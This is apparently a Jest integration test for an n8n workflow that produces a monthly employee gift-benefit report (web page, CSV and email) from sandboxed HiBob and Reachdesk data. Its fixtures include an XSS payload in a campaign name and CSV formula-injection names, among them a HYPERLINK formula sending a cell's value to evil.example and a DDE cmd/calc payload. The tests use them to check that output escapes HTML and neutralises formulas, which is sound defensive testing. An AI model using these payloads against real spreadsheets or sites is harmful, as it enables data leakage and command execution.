import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import {
	benefitReport,
	PAYROLL,
	publishBenefitReport,
	savingManualRuns,
} from '../../sandbox/demo/benefitReport.mts';
import type { BenefitPage } from '../../sandbox/demo/benefitReport.mts';
import { setStage } from '../../sandbox/demo/stage.mts';
import type { Stage } from '../../sandbox/demo/stage.mts';
import { readTemplate } from '../../sandbox/demo/templates.mts';
import { withErrorWorkflow } from '../../sandbox/demo/troubleWatch.mts';
import { formatted, plus } from '../../sandbox/hibob/dates.mts';
import type { Person } from '../../sandbox/hibob/people.mts';
import { startMailbox } from '../../sandbox/mail/mailbox.mts';
import type { Mailbox } from '../../sandbox/mail/mailbox.mts';
import { isList, isRecord } from '../../sandbox/n8n/answers.mts';
import { outputOf } from '../../sandbox/n8n/host.mts';
import type { Execution } from '../../sandbox/n8n/host.mts';
import type { Currency } from '../../sandbox/reachdesk/currencies.mts';
import type { StoredSend } from '../../sandbox/reachdesk/server.mts';
import { SavedExecutions } from './savedExecutions.mts';

const SHARED = 'reception@example.com';
const HOSTILE_CAMPAIGN = `Gifts <img src=x onerror="alert(1)"> {{ $json.csv }}`;
const NAMES = [
	'محمد عبد الله',
	'נועה לוי',
	'王小明',
	'สมชาย ใจดี',
	'Gráinne Ó Briain-Łukasz',
	'Zoë 🎁 Ångström',
	'O’Neill, "Bob" <b>',
	'=HYPERLINK("http://evil.example/?"&A1,"Click")',
	'+1 555 0100',
	"@SUM(1+1)*cmd|' /C calc'!A0",
];

let mailbox: Mailbox;
let stage: Stage;
let site: BenefitPage;
/** yyyy-MM */
let lastMonth = '';
let thisMonth = '';
let made = 0;

/** Each send of the sandbox, by what it is there to show. */
const gifts = new Map<string, StoredSend>();

/** A field of a person, which is a text or a number. */
function textIn(person: Person, field: string): string {
	const value = person[field];
	if (typeof value === 'string' || typeof value === 'number') return String(value);
	throw new Error(`${field} is neither a text nor a number`);
}

const idOf = (person: Person): string => person['root.id'];

interface Gift {
	cost: number;
	currency?: Currency;
	email?: string;
	month?: string;
	status?: string;
}

/** Makes a gift, and the row of the Gift Log that a gift workflow writes. */
async function gift(name: string, to: { id: string; name: string } | null, about: Gift) {
	const { cost, currency = 'EUR', email = `${name.replace(/\W/g, '-')}@example.com` } = about;
	const createdAt =
		about.month === thisMonth ? `${stage.today}T00:00:00.000Z` : `${lastMonth}-15T10:00:00.000Z`;
	const { status } = about;
	const past = { email, campaignId: 1501, cost, currency, createdAt };
	const send = stage.reachdesk.addPastSend(status === undefined ? past : { ...past, status });
	gifts.set(name, send);
	if (to === null) return send;
	made += 1;
	const log = await stage.n8n.dataTable('Gift Log');
	await log.insert([
		{
			...{
				key: `hibob:${to.id}:birthday:${String(2000 + made)}`,
				employee_id: to.id,
				name: to.name,
			},
			...{ outcome: status === 'pending' ? 'pendingReview' : 'sent', send_id: String(send.id) },
			...{ occasion: 'birthday', campaign: '1501', run_day: stage.today },
		},
	]);
	return send;
}

/** Somebody ordinary, who gets a name. */
function somebody(name: string): Person {
	const person = stage.hibob.people.find(
		({ scenario, ...fields }) => scenario === 'filler' && fields['internal.status'] === 'Active',
	);
	if (!person) throw new Error('The sandbox has nobody ordinary.');
	Object.assign(person, { scenario: 'benefit', 'root.displayName': name });
	return person;
}
const as = (person: Person) => ({ id: idOf(person), name: person['root.displayName'] });

let twins: Person[] = [];
let privately: Person;
let leaver: Person;
let erased: Person;
let several: Person;

beforeAll(async () => {
	mailbox = await startMailbox();
	stage = await setStage({ n8n: { env: { EXECUTIONS_DATA_PRUNE_HARD_DELETE_INTERVAL: '0.02' } } });
	const { hibob, reachdesk, n8n, today } = stage;
	thisMonth = today.slice(0, 7);
	lastMonth = plus(`${thisMonth}-01`, { days: -1 }).slice(0, 7);
	site = await publishBenefitReport(stage, mailbox);
	const campaign = reachdesk.campaigns.find(({ id }) => id === 1501);
	if (!campaign) throw new Error('the sandbox has no campaign 1501');
	campaign.name = HOSTILE_CAMPAIGN;
	const [table] = readTemplate('gift-log').nodes.filter(({ name }) => name === 'Log Table');
	const columns =
		isRecord(table?.parameters) && isRecord(table.parameters.columns)
			? table.parameters.columns.column
			: [];
	await n8n.createDataTable(
		'Gift Log',
		(isList(columns) ? columns : []).filter(isRecord).map(({ name }) => String(name)),
	);

	for (const name of NAMES) await gift(name, as(somebody(name)), { cost: 25.5 });
	twins = [somebody('Ann Twin'), somebody('Bob Twin')];
	for (const [index, twin] of twins.entries()) {
		twin['root.email'] = SHARED;
		await gift(`twin ${String(index)}`, as(twin), { cost: 10 + index, email: SHARED });
	}
	privately = somebody('Pia Private');
	const email = textIn(privately, 'home.privateEmail');
	await gift('private', as(privately), { cost: 12.34, email });
	leaver = somebody('Lea Leaver');
	const left = plus(today, { days: -10 });
	Object.assign(leaver, {
		'internal.status': 'Inactive',
		'internal.lifecycleStatus': 'Terminated',
		'internal.terminationDate': left,
	});
	await gift('leaver', as(leaver), { cost: 33.33, currency: 'GBP' });
	erased = somebody('Eve Erased');
	await gift('erased', as(erased), { cost: 44.4 });
	hibob.people.splice(hibob.people.indexOf(erased), 1);
	several = somebody('Sam Several');
	await gift('0.1', as(several), { cost: 0.1, currency: 'USD' });
	await gift('0.2', as(several), { cost: 0.2, currency: 'USD' });
	await gift('many cents', as(several), { cost: 4.35 });
	await gift('whole refund', as(several), { cost: 60, month: thisMonth });
	await gift('part refund', as(several), { cost: 20.07, month: thisMonth });
	await gift('refunded later', as(twins[0] ?? several), { cost: 19.99 });
	await gift('pending', as(several), { cost: 7.77, currency: 'GBP', status: 'pending' });
	await gift('approved later', as(privately), { cost: 8.88, status: 'pending' });
	await gift('rejected', as(several), { cost: 99.99, status: 'pending' });
	await gift('by hand', null, { cost: 15 });
	await gift('to reception by hand', null, { cost: 16, email: SHARED });
	const id = (name: string) => gifts.get(name)?.id ?? 0;
	await (
		await n8n.dataTable('Gift Log')
	).insert([
		{
			key: `reachdesk:${String(id('by hand'))}`,
			name: 'by-hand@example.com',
			send_id: String(id('by hand')),
			outcome: 'sent',
		},
	]);
	reachdesk.refund(id('whole refund'));
	reachdesk.refund(id('part refund'), 0.07);
	reachdesk.refund(id('part refund'), 10.01);
	reachdesk.refund(id('refunded later'));
	reachdesk.approve(id('approved later'));
	reachdesk.reject(id('rejected'));
}, 400_000);
afterAll(async () => {
	const { requests } = stage.reachdesk;
	await stage.stop();
	await mailbox.stop();
	expect(requests.flatMap(({ violations }) => violations)).toEqual([]);
}, 60_000);

const basic = (password: string) =>
	`Basic ${Buffer.from(`${site.visitor.username}:${password}`).toString('base64')}`;

async function visit(query: Record<string, string>): Promise<Response> {
	const url = new URL(site.url);
	for (const [name, value] of Object.entries(query)) url.searchParams.set(name, value);
	return await fetch(url, { headers: { authorization: basic(site.visitor.password) } });
}

const page = async (period: string): Promise<string> => await (await visit({ period })).text();

type Row = Record<string, string>;
const rowsOf = (csv: string): Row[] => parse(csv, { bom: true, columns: true });
async function csvOf(period: string): Promise<Row[]> {
	const answer = await visit({ period, file: 'csv' });
	expect(answer.status).toBe(200);
	expect(answer.headers.get('content-type')).toBe('text/csv; charset=utf-8');
	expect(answer.headers.get('content-disposition')).toBe(
		`attachment; filename="benefit-report-${period}.csv"`,
	);
	const bytes = Buffer.from(await answer.arrayBuffer());
	expect(bytes.subarray(0, 3).toString('hex')).toBe('efbbbf');
	return rowsOf(bytes.toString('utf8'));
}
const rowsAbout = (rows: readonly Row[], person: Person) =>
	rows.filter((row) => row['HiBob ID'] === `hibob:${idOf(person)}`);
const money = ({ Currency: currency, Given, Refunded, Pending, Net, Gifts }: Row) =>
	[currency, Given, Refunded, Pending, Net, Gifts].join(' ');

/** What the sandbox itself has of a month, in cents. */
function inSandbox(month: string): Map<string, string> {
	const sums = new Map<string, { given: number; refunded: number; pending: number }>();
	for (const { wallet, cost, createdAt, processedAt, refunded, status } of stage.reachdesk.sends) {
		const sum = sums.get(wallet.currency) ?? { given: 0, refunded: 0, pending: 0 };
		if (processedAt?.startsWith(month) === true) sum.given += Math.round(cost * 100);
		if (status === 'pending' && createdAt.startsWith(month)) sum.pending += Math.round(cost * 100);
		// all refunds of the sandbox are of today
		if (month === thisMonth) sum.refunded += Math.round(refunded * 100);
		sums.set(wallet.currency, sum);
	}
	const text = (cents: number) => (cents / 100).toFixed(2);
	return new Map(
		Array.from(sums)
			.filter(([, { given, refunded, pending }]) => given + refunded + pending > 0)
			.map(([currency, { given, refunded, pending }]) => [
				currency,
				[given, refunded, pending, given - refunded].map(text).join(' '),
			]),
	);
}

const textOf = (html: string): string =>
	html
		.replace(/<[^>]*>/g, ' ')
		.replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))
		.replace(/\s+/g, ' ')
		.trim();

describe('the benefit report', () => {
	it('is shown to nobody without the right password', async () => {
		for (const headers of [{}, { authorization: basic('wrong') }]) {
			for (const query of ['', '?file=csv']) {
				const answer = await fetch(`${site.url}${query}`, { headers });
				expect(answer.status).toBe(401);
				expect(await answer.text()).not.toMatch(/Benefit report|Employee/);
			}
		}
	});

	it('adds up to Reachdesk’s own record, to the cent, in each currency', async () => {
		for (const month of [lastMonth, thisMonth]) {
			const rows = await csvOf(month);
			for (const kind of ['Ledger total', 'Report total']) {
				const totals = new Map(
					rows
						.filter(({ Row: row }) => row === kind)
						.map(({ Currency: currency = '', Given, Refunded, Pending, Net }) => [
							currency,
							[Given, Refunded, Pending, Net].join(' '),
						]),
				);
				expect(totals).toEqual(inSandbox(month));
			}
			expect(rows.filter(({ Note }) => Note === 'Equal')).toHaveLength(inSandbox(month).size);
		}
		expect([...inSandbox(lastMonth).keys()].sort()).toEqual(['EUR', 'GBP', 'USD']);
	}, 60_000);

	it('keeps names in every script, and none of them is a formula', async () => {
		const rows = await csvOf(lastMonth);
		const names = rows.map(({ Name }) => Name);
		for (const name of NAMES) {
			expect(names).toContain(/^[=+@]/.test(name) ? `'${name}` : name);
		}
		const cells = rows.flatMap((row) => Object.values(row));
		expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+\.\d\d$/.test(cell))).toEqual(
			[],
		);
	}, 60_000);

	it('says number, employer and country of each, those of a leaver too', async () => {
		const rows = await csvOf(lastMonth);
		for (const person of [leaver, several, ...twins]) {
			const [row] = rowsAbout(rows, person);
			expect(row).toMatchObject({
				Row: 'Employee',
				Month: lastMonth,
				'Employee number': textIn(person, 'work.employeeIdInCompany'),
				Employer: `Sandbox ${textIn(person, 'address.siteCountry')}`,
				Country: person['address.siteCountry'],
			});
		}
		expect(rowsAbout(rows, leaver).map(money)).toEqual(['GBP 33.33 0.00 0.00 33.33 1']);
	}, 60_000);

	it('tells two people at one address apart, and finds whose gift went to a personal one', async () => {
		const rows = await csvOf(lastMonth);
		const [ann, bob] = twins.map((twin) => rowsAbout(rows, twin).map(money));
		expect(ann).toEqual(['EUR 29.99 0.00 0.00 29.99 2']);
		expect(bob).toEqual(['EUR 11.00 0.00 0.00 11.00 1']);
		expect(rowsAbout(rows, privately).map(money)).toEqual(['EUR 12.34 0.00 0.00 12.34 1']);
	}, 60_000);

	it('keeps the row of somebody whom HiBob no longer returns', async () => {
		const [row] = rowsAbout(await csvOf(lastMonth), erased);
		expect(row).toMatchObject({
			...{ Row: 'Employee', Name: 'Eve Erased', 'Employee number': '', Employer: '' },
			...{ Given: '44.40', Note: 'HiBob no longer returns this person' },
		});
		expect(textOf(await page(lastMonth))).toContain('HiBob no longer returns 1 person');
	}, 60_000);

	it('lists by its send ID what the Gift Log does not explain, and guesses nobody', async () => {
		const rows = (await csvOf(lastMonth)).filter(({ Row: row }) => row === 'Not in the Gift Log');
		const expected = ['by hand', 'to reception by hand'].map((name) => gifts.get(name));
		expect(rows.map(({ Note, Given, Name }) => [Note, Given, Name])).toEqual(
			expected.map((send) => [
				`Gift ${String(send?.id)}, ${HOSTILE_CAMPAIGN}. No row of the Gift Log has this gift`,
				(send?.cost ?? 0).toFixed(2),
				'',
			]),
		);
	}, 60_000);

	it('has given, refunded and pending in the month in which each happened', async () => {
		const [before, now] = [await csvOf(lastMonth), await csvOf(thisMonth)];
		expect(rowsAbout(before, several).map(money)).toEqual([
			'EUR 4.35 0.00 0.00 4.35 1',
			'GBP 0.00 0.00 7.77 0.00 0',
			'USD 0.30 0.00 0.00 0.30 2',
		]);
		expect(rowsAbout(now, several).map(money)).toEqual(['EUR 80.07 70.08 0.00 9.99 2']);
		expect(rowsAbout(now, twins[0] ?? several).map(money)).toEqual([
			'EUR 0.00 19.99 0.00 -19.99 0',
		]);
		const [approved] = rowsAbout(now, privately);
		expect(money(approved ?? {})).toBe('EUR 8.88 0.00 0.00 8.88 1');
		expect(approved?.Note).toContain('made in an earlier month and approved in this one');
	}, 60_000);

	it('shows the same on the page, by month and currency, and HTML in it as text', async () => {
		const html = await page(lastMonth);
		const text = textOf(html);
		expect(text).toContain(`${formatted(`${lastMonth}-01`, 'LLLL yyyy')}, in the time zone UTC.`);
		for (const [currency, sums] of inSandbox(lastMonth)) {
			const sign = { EUR: '€', GBP: '£', USD: 'US$' }[currency] ?? '';
			const [, , , net = ''] = sums.split(' ');
			expect(text).toContain(`✓ Equals Reachdesk’s ledger: ${sign}${net}`);
		}
		for (const name of NAMES) expect(text).toContain(name.replace(/<b>/, '<b>'));
		expect(text).toContain(HOSTILE_CAMPAIGN);
		expect(html).not.toMatch(/<img|<script|<b>/);
		expect(html).toContain('<bdi>נועה לוי</bdi>');
		expect(html).not.toContain(SHARED);
		expect(textOf(await page(thisMonth))).toContain('is not over yet: its figures will change');
	}, 60_000);

	it('has months of the chosen time zone, and says which', async () => {
		const { n8n } = stage;
		await gift('at midnight', null, { cost: 1 });
		const send = gifts.get('at midnight');
		const instant = `${plus(`${thisMonth}-01`, { days: -1 })}T23:59:59.000Z`;
		Object.assign(send ?? {}, { createdAt: instant, processedAt: instant });
		const given = async (period: string) =>
			(await csvOf(period)).filter(
				({ Note }) => Note?.includes(`Gift ${String(send?.id)},`) === true,
			);
		expect(await given(lastMonth)).toHaveLength(1);
		const zone = { 'config.timeZone': 'Asia/Tokyo' };
		await n8n.updateWorkflow(site.workflowId, await benefitReport(stage, mailbox, zone));
		await n8n.publish(site.workflowId);
		expect(await given(lastMonth)).toEqual([]);
		expect(await given(thisMonth)).toHaveLength(1);
		expect(await page(lastMonth)).toContain('Asia/Tokyo');
		await n8n.updateWorkflow(site.workflowId, await benefitReport(stage, mailbox));
		await n8n.publish(site.workflowId);
	}, 90_000);

	it('lists what Reachdesk does not clearly say, and does not count it', async () => {
		const [one, other] = [gifts.get('twin 0'), gifts.get('twin 1')];
		if (!one || !other) throw new Error('no twins');
		const [{ wallet }, { cost }] = [one, other];
		Object.assign(one, { wallet: { ...wallet, currency: null } });
		Object.assign(other, { cost: Number.NaN });
		const rows = await csvOf(lastMonth);
		const text = textOf(await page(lastMonth));
		Object.assign(one, { wallet });
		Object.assign(other, { cost });
		const notes = rows.filter(({ Row: row }) => row === 'Not counted').map(({ Note }) => Note);
		expect(notes.sort()).toEqual([
			expect.stringMatching(new RegExp(`^Gift ${String(one.id)}, .*the currency is missing$`)),
			expect.stringMatching(new RegExp(`^Gift ${String(other.id)}, .*the amount is missing$`)),
		]);
		expect(text).toContain('2 transactions are not counted');
		expect(rowsAbout(rows, twins[1] ?? several)).toEqual([]);
	}, 60_000);

	it('goes out by email with the CSV, which is that of the page', async () => {
		const { n8n } = stage;
		const id = await n8n.importWorkflow(savingManualRuns(await benefitReport(stage, mailbox)));
		const execution = await n8n.waitForExecution(await n8n.runManually(id, 'Every Month'));
		expect(execution.error).toBeUndefined();
		const [mail] = mailbox.mails;
		expect(mail?.to).toEqual([PAYROLL]);
		const month = formatted(`${lastMonth}-01`, 'LLLL yyyy');
		expect(mail?.subject).toMatch(
			new RegExp(`^\\[Test\\] Benefit report for ${month}: €[\\d.]+ and £33\\.33 and US\\$0\\.30$`),
		);
		const [file] = mail?.attachments ?? [];
		expect(file?.name).toBe(`benefit-report-${lastMonth}.csv`);
		expect(file?.text.startsWith('\ufeffRow,')).toBe(true);
		expect(rowsOf(file?.text ?? '')).toEqual(await csvOf(lastMonth));
		// who somebody is stands in the file alone
		for (const said of [mail?.subject, mail?.text, mail?.html]) {
			expect(NAMES.filter((name) => said?.includes(name))).toEqual([]);
		}
	}, 60_000);

	it('is no report when HiBob cannot be read: the page says why', async () => {
		stage.hibob.faults.add({
			path: '/v1/people/search',
			fault: { kind: 'status', when: 'before', status: 403 },
		});
		for (const query of [{ period: lastMonth }, { period: lastMonth, file: 'csv' }]) {
			const answer = await visit(query);
			expect(answer.status).toBe(503);
			const html = await answer.text();
			expect(textOf(html)).toMatch(/HiBob could not be read, so there is no report\. .*403/);
			expect(html).not.toMatch(/<table|Download|€/);
		}
		stage.hibob.faults.clear();
	}, 60_000);

	it('is no report when Reachdesk’s list has a gap: the page says so, and the run of the email is red', async () => {
		const { n8n, reachdesk } = stage;
		for (let index = 0; index < 250; index++) {
			await gift(`many ${String(index)}`, null, { cost: 1 });
		}
		reachdesk.variants.missPage = 2;
		const answer = await visit({ period: lastMonth });
		expect(answer.status).toBe(503);
		expect(textOf(await answer.text())).toContain(
			'Reachdesk’s list of transactions has gaps, so there is no report.',
		);
		mailbox.mails.length = 0;
		const errors = await errorWorkflow();
		// as it is shipped, so it saves nothing; only the schedule comes sooner
		const soon = { rule: { interval: [{ field: 'seconds', secondsInterval: 5 }] } };
		const { nodes, ...workflow } = await benefitReport(stage, mailbox);
		await n8n.updateWorkflow(
			site.workflowId,
			withErrorWorkflow(
				{
					...workflow,
					nodes: nodes.map((node) =>
						isRecord(node) && node.name === 'Every Month' ? { ...node, parameters: soon } : node,
					),
				},
				errors,
			),
		);
		await n8n.publish(site.workflowId);
		const [red] = await n8n.waitForExecutions(errors, { count: 1, timeoutMs: 60_000 });
		await n8n.retire(site.workflowId);
		const told = await n8n.execution(red?.id ?? '');
		expect(messageIn(told)).toMatch(/^Reachdesk’s list of transactions has gaps/);
		expect(mailbox.mails).toEqual([]);
		reachdesk.variants.missPage = null;
	}, 120_000);

	it('saves no execution of the page, and nothing of its visitors', async () => {
		expect(await stage.n8n.executions(site.workflowId)).toEqual([]);
		const saved = new SavedExecutions(stage.n8n);
		try {
			await saved.lose(basic(site.visitor.password), stage.n8n);
		} finally {
			saved.close();
		}
	}, 60_000);
});

/** Published, so that n8n starts it when a run of another fails. @returns its id */
async function errorWorkflow(): Promise<string> {
	const id = await stage.n8n.importWorkflow({
		name: 'Errors',
		nodes: [
			{
				...{ id: 'errors', name: 'Errors', type: 'n8n-nodes-base.errorTrigger' },
				...{ typeVersion: 1, position: [0, 0], parameters: {} },
			},
		],
		connections: {},
		settings: { executionOrder: 'v1' },
	});
	await stage.n8n.publish(id);
	return id;
}

/** What the error workflow was told. */
function messageIn(execution: Execution): string {
	const [item] = outputOf(execution, 'Errors');
	const { execution: failed } = item ?? {};
	const error = isRecord(failed) ? failed.error : undefined;
	return isRecord(error) ? String(error.message) : '';
}
